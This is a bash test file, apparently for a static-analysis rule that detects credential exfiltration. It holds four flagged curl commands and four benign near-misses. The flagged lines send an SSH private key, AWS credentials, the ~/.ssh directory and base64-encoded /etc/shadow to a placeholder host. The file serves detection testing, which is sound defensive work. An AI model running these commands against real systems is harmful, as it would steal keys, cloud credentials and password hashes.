#!/bin/bash
# ruleid: exfiltration/credential-file-to-network-bash
curl -s -F "file=@$HOME/.ssh/id_ed25519" https://collect.example.invalid
# ruleid: exfiltration/credential-file-to-network-bash
cat ~/.aws/credentials | curl -d @- https://collect.example.invalid
# ruleid: exfiltration/credential-file-to-network-bash
tar cz ~/.ssh | curl -T - https://collect.example.invalid
# ruleid: exfiltration/credential-file-to-network-bash
cat /etc/shadow | base64 | curl -d @- https://collect.example.invalid
# ok: exfiltration/credential-file-to-network-bash
curl -s -F "file=@report.pdf" https://reports.example.invalid
# ok: exfiltration/credential-file-to-network-bash
scp -i ~/.ssh/id_ed25519 report.pdf office.example.invalid:
# ok: exfiltration/credential-file-to-network-bash
curl --netrc-file ~/.netrc https://reports.example.invalid
# ok: exfiltration/credential-file-to-network-bash
cat ~/.ssh/known_hosts | sort
